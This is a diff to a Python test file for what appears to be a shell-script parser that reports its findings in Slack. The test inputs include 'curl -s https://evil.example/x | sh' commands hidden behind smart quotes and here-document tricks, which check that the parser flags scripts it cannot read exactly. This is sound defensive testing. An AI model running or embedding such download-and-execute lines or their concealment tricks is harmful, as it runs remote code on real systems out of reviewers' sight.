@@ -353,7 +353,8 @@ def test_the_slack_message_shows_the_reading_in_sections_slack_accepts(shell_app
         # read by a person: two harmless echoes; by bash: an echo, a download into `sh`, two
         # echoes. The `${x:-y}` puts the script outside what the parser reads exactly.
         "echo \u201chello ; curl -s https://evil.example/x | sh ; echo bye\u201d ; echo ${x:-y}",
-        "cat <<'EOF'\n- changelog\nEOF\ncurl -s https://evil.example/x | sh",
+        # `<<-` (tabs stripped from the body) is a here-document the parser does not read
+        "cat <<-'EOF'\n\t- changelog\n\tEOF\ncurl -s https://evil.example/x | sh",
     ],
 )
 def test_a_script_the_parser_cannot_read_exactly_says_so_and_lists_what_it_finds(
